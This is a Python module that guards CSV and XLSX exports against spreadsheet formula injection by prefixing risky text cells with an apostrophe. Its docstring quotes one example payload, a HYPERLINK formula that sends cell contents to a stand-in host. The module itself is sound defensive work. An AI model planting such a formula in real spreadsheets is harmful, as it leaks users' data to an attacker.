"""Spreadsheet-safe text cells (OWASP's CSV-injection rule), for every CSV and XLSX pijplijn
writes: an export, an API download, a CLI table in CSV.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read
by Excel and LibreOffice as a formula, e.g. ``=HYPERLINK("http://evil.test/?"&A2)`` in a
scenario title. Such a cell gets a leading apostrophe, which spreadsheets show as text.
Numbers are never altered: numeric columns are left alone, and so is a text cell that is a
plain number such as ``-3`` or ``+31.5`` (it cannot run anything)."""

from __future__ import annotations

import re
from typing import Any

import polars as pl

FORMULA_START = re.compile(r"^[=+\-@\t\r]")
PLAIN_NUMBER = r"^[+-]?\d+(?:[.,]\d+)?(?:[eE][+-]?\d+)?$"
_PLAIN_NUMBER = re.compile(PLAIN_NUMBER)


def safe_text(value: str) -> str:
    """Return ``value``, with a leading apostrophe when a spreadsheet would run it."""
    if FORMULA_START.match(value) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def safe_value(value: Any) -> Any:
    """``safe_text`` for text; every other value (numbers, None, booleans) unchanged."""
    return safe_text(value) if isinstance(value, str) else value


def safe_record(record: dict[str, Any]) -> dict[str, Any]:
    """The record with every text value spreadsheet-safe."""
    return {key: safe_value(value) for key, value in record.items()}


def safe_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """The frame with every text cell spreadsheet-safe; other columns untouched."""
    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    if not text:
        return frame
    return frame.with_columns(
        pl.when(
            pl.col(name).str.contains(r"^[=+\-@\t\r]") & ~pl.col(name).str.contains(PLAIN_NUMBER)
        )
        .then(pl.lit("'") + pl.col(name))
        .otherwise(pl.col(name))
        .alias(name)
        for name in text
    )
